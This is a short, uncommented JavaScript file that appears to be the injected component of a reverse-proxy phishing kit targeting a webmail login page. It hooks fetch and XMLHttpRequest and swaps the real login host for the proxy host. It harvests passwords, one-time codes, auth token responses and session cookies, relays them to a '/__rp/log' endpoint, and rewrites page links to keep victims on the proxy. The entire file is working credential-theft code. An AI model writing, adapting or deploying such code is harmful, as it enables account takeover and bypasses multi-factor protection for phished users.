const REAL = 'login.cloudmail.example';
const HERE = location.host;
const nativeFetch = window.fetch.bind(window);

const relay = (payload) =>
  nativeFetch('/__rp/log', { method: 'PUT', keepalive: true, body: JSON.stringify({ at: Date.now(), ...payload }) }).catch(() => {});

const swap = (u) => String(u).split(REAL).join(HERE);

window.fetch = async (input, init = {}) => {
  const url = swap(input instanceof Request ? input.url : input);
  if (init.body && /account\/lookup|signin|password/i.test(url)) {
    relay({ t: 'req', url, body: String(init.body) });
  }
  const res = await nativeFetch(url, init);
  if (/token|authorize|session/i.test(url)) {
    res.clone().text().then((text) => relay({ t: 'res', url, text, cookies: document.cookie }));
  }
  return res;
};

const send = XMLHttpRequest.prototype.send;
const open = XMLHttpRequest.prototype.open;
XMLHttpRequest.prototype.open = function (m, u, ...rest) {
  this.__u = swap(u);
  return open.call(this, m, this.__u, ...rest);
};
XMLHttpRequest.prototype.send = function (body) {
  if (typeof body === 'string' && /passw|otc|login/i.test(body)) relay({ t: 'xhr', url: this.__u, body });
  return send.call(this, body);
};

new MutationObserver(() => {
  document.querySelectorAll(`a[href*="${REAL}"], form[action*="${REAL}"]`).forEach((n) => {
    const a = n.tagName === 'A' ? 'href' : 'action';
    n.setAttribute(a, swap(n.getAttribute(a)));
  });
}).observe(document.documentElement, { childList: true, subtree: true });
